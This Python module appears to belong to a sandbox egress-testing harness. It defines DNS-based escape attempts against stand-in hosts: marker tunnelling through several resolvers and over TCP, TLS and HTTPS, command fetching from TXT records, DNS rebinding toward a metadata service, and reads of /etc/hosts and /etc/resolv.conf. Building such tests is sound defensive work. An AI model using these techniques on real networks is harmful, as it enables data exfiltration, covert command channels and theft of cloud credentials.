"""The name service as a way out."""

import socket
import ssl
import struct

from corpus.kit import PATIENCE_SECONDS, Attempt, Class, Heard, Told, http, question, read, udp

CLASS = Class(
    "dns",
    "The name service as a way out and in: a question for a name that somebody owns tells that person the name, and"
    " the answer may hold orders, or another address than the last time.",
)
attack = CLASS.attack
EVIL, RESOLVER, ROUTER = "203.0.113.9", "203.0.113.53", "192.168.20.1"


@attack("a tunnel through the machine's resolver", "DNS tunnel", Heard(ROUTER))
def _(at: Attempt) -> object:
    """Looks up a name with the usual function: the question reaches the owner of the domain."""
    return socket.getaddrinfo(f"{at.mark}.tunnel.test", 80)


@attack("a tunnel through the network's resolver", "DNS tunnel", Heard(ROUTER))
def _(at: Attempt) -> object:
    """Asks the name server of the local network itself."""
    return udp(ROUTER, 53, question(f"{at.mark}.tunnel.test"))


@attack("a tunnel through a public resolver", "DNS tunnel", Heard(RESOLVER))
def _(at: Attempt) -> object:
    """Asks a name server on the internet."""
    return udp(RESOLVER, 53, question(f"{at.mark}.tunnel.test"))


@attack("a tunnel over TCP", "DNS tunnel", Heard(RESOLVER))
def _(at: Attempt) -> object:
    """Asks a name server over TCP, past filters of datagrams."""
    asked = question(f"{at.mark}.tunnel.test")
    with socket.create_connection((RESOLVER, 53), PATIENCE_SECONDS) as connection:
        connection.sendall(struct.pack("!H", len(asked)) + asked)
        return connection.recv(1000)


@attack("a tunnel over TLS", "DNS over TLS", Heard(RESOLVER))
def _(at: Attempt) -> object:
    """Asks a name server over TLS, where nobody reads the names."""
    with socket.create_connection((RESOLVER, 853), PATIENCE_SECONDS) as plain:
        with ssl._create_unverified_context().wrap_socket(plain) as secured:
            secured.sendall(question(f"{at.mark}.tunnel.test"))
            return secured.recv(100)


@attack("a tunnel over HTTPS", "DNS over HTTPS", Heard(RESOLVER))
def _(at: Attempt) -> object:
    """Asks a name server by a web page."""
    with socket.create_connection((RESOLVER, 443), PATIENCE_SECONDS) as plain:
        with ssl._create_unverified_context().wrap_socket(plain) as secured:
            secured.sendall(
                f"GET /dns-query?name={at.mark}.tunnel.test HTTP/1.1\r\nHost: resolver\r\n\r\n".encode()
            )
            return secured.recv(100)


@attack("orders in a text record", "command and control", Told("commands"))
def _(at: Attempt) -> object:
    """Takes orders from a text record of a domain."""
    found = []
    for server in (*_servers(), RESOLVER, "127.0.0.53"):
        try:
            found.append(udp(server, 53, question("orders.tunnel.test", 16)))
        except OSError as error:
            found.append(str(error))
    return found


def _servers() -> list[str]:
    return [
        line.split()[1] for line in read("/etc/resolv.conf").splitlines() if line.startswith("nameserver")
    ]


@attack("a name that changes its address", "DNS rebinding", Told("metadata"))
def _(at: Attempt) -> object:
    """Connects to a name of the internet again and again, until it leads to the metadata service."""
    found = []
    for _ in range(3):
        try:
            found.append(http(socket.gethostbyname("rebinding.test"), "/"))
        except OSError as error:
            found.append(str(error))
    return found


@attack("a name for the metadata service", "DNS rebinding", Told("metadata"))
def _(at: Attempt) -> object:
    """Asks the metadata service by a name of the internet."""
    return http(socket.gethostbyname("metadata.evil.test"), "/")


@attack("names of the office", "split horizon", Told("nas-address"))
def _(at: Attempt) -> object:
    """Looks up a name that only the local network's name server knows."""
    return socket.gethostbyname("nas.office.test")


@attack("names of the machine's list", "reconnaissance", Told("hosts"))
def _(at: Attempt) -> object:
    """Reads /etc/hosts, where the machine has names of the local network."""
    return read("/etc/hosts")
